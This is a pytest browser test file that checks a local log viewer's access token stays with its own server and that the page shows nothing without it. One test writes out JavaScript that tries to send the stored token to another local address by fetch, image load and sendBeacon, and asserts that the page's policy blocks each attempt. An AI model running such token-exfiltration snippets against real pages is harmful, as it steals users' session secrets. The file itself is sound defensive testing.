"""The page's token reaches the page's own server and nobody else, and without it the page shows nothing."""

from __future__ import annotations

from pathlib import Path
from typing import TYPE_CHECKING
from urllib.parse import urldefrag, urljoin

import pytest
from support.page.other_sites import Received, another_site

if TYPE_CHECKING:
    from support.page.browser import Browser
    from support.page.watched_stacks import WatchedStack

pytestmark = pytest.mark.browser

LOOKS = Path(__file__).with_name("looks.js").read_text(encoding="utf-8")
KEPT = "return [sessionStorage.length, localStorage.length, document.cookie, document.referrer, history.length]"


def token(watched: WatchedStack) -> str:
    return urldefrag(watched.page).fragment.removeprefix("token=")


def sent_to(received: list[Received]) -> str:
    return repr([(each.path, each.headers) for each in received])


def test_the_address_bar_shows_the_token_no_more(watched: WatchedStack, browser: Browser) -> None:
    assert browser.run("return location.href") == urljoin(watched.page, "/")
    assert browser.run("return sessionStorage.getItem('loglake.token')") == token(watched)
    assert browser.run("return document.cookie") == ""
    browser.run("location.reload()")
    browser.until(lambda: "Live" in browser.text("#connection"))


@pytest.mark.parametrize("name", ["127.0.0.1", "localhost"])
def test_another_port_of_this_machine_gets_no_secret(watched: WatchedStack, browser: Browser, name: str) -> None:
    with another_site(name) as (address, received):
        browser.run("document.body.insertAdjacentHTML('beforeend', '<a id=away>away</a>')")
        browser.run("document.getElementById('away').href = arguments[0]", address)
        browser.click("#away")
        browser.until(lambda: browser.run("return location.href") == address)
        assert received[0].path == "/"
        assert {"Cookie", "Authorization", "Referer", "Origin"}.isdisjoint(each for each, _ in received[0].headers)
        assert token(watched) not in sent_to(received)
        assert browser.run(KEPT)[:4] == [0, 0, "", ""]  # this tab keeps the token for the page's port alone
        browser.run("history.back()")
        browser.until(lambda: "Live" in browser.text("#connection"))  # and still has it


def test_the_page_sends_its_token_nowhere_else(watched: WatchedStack, browser: Browser) -> None:
    with another_site("127.0.0.1") as (address, received):
        for script in (
            "await fetch(arguments[0], {headers: {Authorization: sessionStorage.getItem('loglake.token')}})",
            "const a = new Image(); a.src = arguments[0]; await a.decode()",
            "navigator.sendBeacon(arguments[0], sessionStorage.getItem('loglake.token')) || fail",
        ):
            refused = browser.run(f"try {{ {script}; return '' }} catch (error) {{ return error.name }}", address)
            assert refused or "sendBeacon" in script
        assert received == []  # its own Content-Security-Policy keeps what runs in it from any other address
    assert browser.complaints() != []


@pytest.mark.parametrize("width", [1280, 320])
@pytest.mark.parametrize("fragment", ["", "#token=", "#token=wrong", "#tables"])
def test_a_page_without_its_token_says_what_to_do(
    watched: WatchedStack, browser: Browser, fragment: str, width: int
) -> None:
    page = urljoin(watched.page, "/").replace("127.0.0.1", "localhost")  # another origin: its storage is empty
    browser.look(width)
    browser.open("about:blank")
    browser.open(page)
    browser.run("sessionStorage.clear()")
    browser.open("about:blank")
    browser.open(page + fragment)
    browser.until(lambda: browser.text("#connection"))
    said = "The page needs its token: open the whole address that `loglake local up` printed, with what follows the #."
    assert browser.text("#connection") == f"Trouble: {said}"
    assert browser.run("return ['main', 'nav'].map((name) => document.querySelector(name).checkVisibility())") == [
        False,
        False,
    ]
    assert browser.run(LOOKS) == []
    browser.open(page + urldefrag(watched.page).fragment.join(["#", ""]))
    browser.until(lambda: "Live" in browser.text("#connection"))
    assert "loglake-convert-logs" in browser.text("main")
    assert all("403" in line for line in browser.complaints())
    browser.run("sessionStorage.clear()")
